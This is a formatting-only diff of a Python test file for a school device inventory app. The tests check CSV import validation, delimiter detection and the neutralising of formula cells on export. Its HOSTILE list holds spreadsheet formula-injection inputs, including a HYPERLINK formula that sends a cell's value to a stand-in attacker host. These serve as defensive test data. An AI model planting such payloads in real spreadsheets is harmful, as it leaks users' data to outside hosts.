@@ -11,8 +11,14 @@ from inventory_app.core.errors import RejectedInput
 from inventory_app.core.tabular import read_delimited
 from tests.support import dump
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+41 1234", "-2+3", "@SUM(A1:A3)",
-           "\tsarkain", "'=jo lainausmerkki"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")',
+    "+41 1234",
+    "-2+3",
+    "@SUM(A1:A3)",
+    "\tsarkain",
+    "'=jo lainausmerkki",
+]
 
 
 @pytest.fixture
@@ -85,8 +91,9 @@ def test_csv_export_neutralises_formula_cells(cli, hostile, tmp_path, store_path
 @pytest.mark.parametrize("price", ["1e308", "12345678901234567890", "99999999999999999999,00"])
 def test_a_huge_price_is_refused_naming_the_row(cli, city, tmp_path, store_path, price):
     path = tmp_path / "p.csv"
-    path.write_text(f"Koulu;Laitetyyppi;Sarjanumero;Hinta\nKON07;Tabletti;P-1;12,50\nKON07;Tabletti;P-2;{price}\n",
-                    encoding="utf-8")
+    path.write_text(
+        f"Koulu;Laitetyyppi;Sarjanumero;Hinta\nKON07;Tabletti;P-1;12,50\nKON07;Tabletti;P-2;{price}\n", encoding="utf-8"
+    )
     before = dump(store_path)
     result = cli("import", str(path))
     assert result.code == 3, result.err
@@ -96,11 +103,14 @@ def test_a_huge_price_is_refused_naming_the_row(cli, city, tmp_path, store_path,
 
 def test_rows_that_do_not_fit_the_header_are_refused(cli, city, tmp_path, store_path):
     path = tmp_path / "w.csv"
-    path.write_text("Koulu;Laitetyyppi;Sarjanumero;Huom\n"
-                    "KON07;Tabletti;W-1;ok\n"
-                    "KON07;Tabletti;W-2;akku vaihdettu; laturi puuttuu\n"
-                    "KON07;Tabletti\n"
-                    "KON07;Tabletti;W-4;;\n", encoding="utf-8")
+    path.write_text(
+        "Koulu;Laitetyyppi;Sarjanumero;Huom\n"
+        "KON07;Tabletti;W-1;ok\n"
+        "KON07;Tabletti;W-2;akku vaihdettu; laturi puuttuu\n"
+        "KON07;Tabletti\n"
+        "KON07;Tabletti;W-4;;\n",
+        encoding="utf-8",
+    )
     before = dump(store_path)
     result = cli("import", str(path))
     assert result.code == 3
@@ -123,4 +133,4 @@ def test_title_line_does_not_fool_the_delimiter():
 
     text = "Kesämäen koulu, laiteluettelo 2026\n\nKoulu;Luokka;Laite\nK;A1;iPad\nK;A2;Tabletti, vanha\n"
     assert sniff_delimiter(text) == ";"
-    assert sniff_delimiter("a,b,c\n1,2,3\n1,2,\"x; y\"\n") == ","
+    assert sniff_delimiter('a,b,c\n1,2,3\n1,2,"x; y"\n') == ","
